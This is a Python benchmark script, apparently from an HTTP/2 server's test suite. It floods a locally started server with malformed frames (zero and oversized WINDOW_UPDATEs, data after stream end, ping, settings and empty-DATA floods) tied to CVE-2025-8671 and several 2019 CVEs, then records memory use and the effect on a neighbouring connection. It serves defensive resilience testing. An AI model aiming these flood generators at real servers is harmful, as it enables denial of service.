"""Calls that the server resets itself, because a frame breaks the rules (CVE-2025-8671), and frames without a call that must
be answered (CVE-2019-9512, CVE-2019-9515), on one connection, beside a neighbour's calls.

python -m bench.attacks.server_resets

A call that the server resets no longer counts against the limit of open calls, while its handler may still run. Answers that
the attacker does not read must not pile up in memory.
"""

import struct
import time
from collections.abc import Callable, Mapping
from contextlib import suppress

from bench.attacks.harness import STATUS, Neighbour, Peak, tell
from bench.attacks.wire import END_HEADERS, Kind, Wire, data, frame, headers, ping
from tests.server.harness import running_server

CALLS = 200_000
_BATCH = 100


def _no_window(number: int) -> bytes:
    """A call, and a WINDOW_UPDATE of 0 for it, which is an error of the stream (RFC 9113, 6.9)."""
    return _call(number) + frame(Kind.WINDOW_UPDATE, 2 * number + 1, struct.pack(">I", 0))


def _large_window(number: int) -> bytes:
    """A call, and WINDOW_UPDATEs beyond 2³¹ − 1 for it, an error of the stream too."""
    return _call(number) + 2 * frame(Kind.WINDOW_UPDATE, 2 * number + 1, struct.pack(">I", 2**31 - 1))


def _after_end(number: int) -> bytes:
    """A call that goes on after its end (5.1)."""
    return _call(number) + data(2 * number + 1, b"")


def _call(number: int) -> bytes:
    return headers(2 * number + 1, STATUS, flags=END_HEADERS) + data(2 * number + 1, b"")


def _empty_data(number: int) -> bytes:
    """Frames without content in a call that never gets its message (CVE-2019-9518)."""
    first = number - number % _BATCH
    opened = headers(2 * first + 1, STATUS, flags=END_HEADERS) if number == first else b""
    return opened + frame(Kind.DATA, 2 * first + 1)


FLOODS: Mapping[str, Callable[[int], bytes]] = {
    "a window of 0": _no_window,
    "a window beyond the largest": _large_window,
    "data after the end": _after_end,
    "pings": ping,
    "settings": lambda number: frame(Kind.SETTINGS, 0),
    "empty data": _empty_data,
}


def flood(address: str, frames: Callable[[int], bytes], count: int) -> tuple[int, float]:
    """Send so many, and read nothing. How many were sent before the server closed the connection or stopped reading, and
    the seconds until then."""
    begin, sent = time.perf_counter(), 0
    with Wire(address) as wire:
        wire.socket.settimeout(5)
        with suppress(OSError):
            while sent < count:
                wire.send(*(frames(number) for number in range(sent, sent + _BATCH)))
                sent += _BATCH
    return sent, time.perf_counter() - begin


def main() -> int:
    """Print what the neighbour and the memory saw of each."""
    figures: dict[str, object] = {}
    with running_server("--device", "sim") as server:
        for name, frames in FLOODS.items():
            peak = Peak(server.process.pid)
            with peak.watched(), Neighbour(server.address) as neighbour:
                sent, took_s = flood(server.address, frames, CALLS)
            figures[name] = {"sent": sent, "s": took_s, "neighbour": neighbour.figures(), "memory": peak.figures()}
            print(name, figures[name], flush=True)
    return tell("server_resets", **figures)


if __name__ == "__main__":
    raise SystemExit(main())
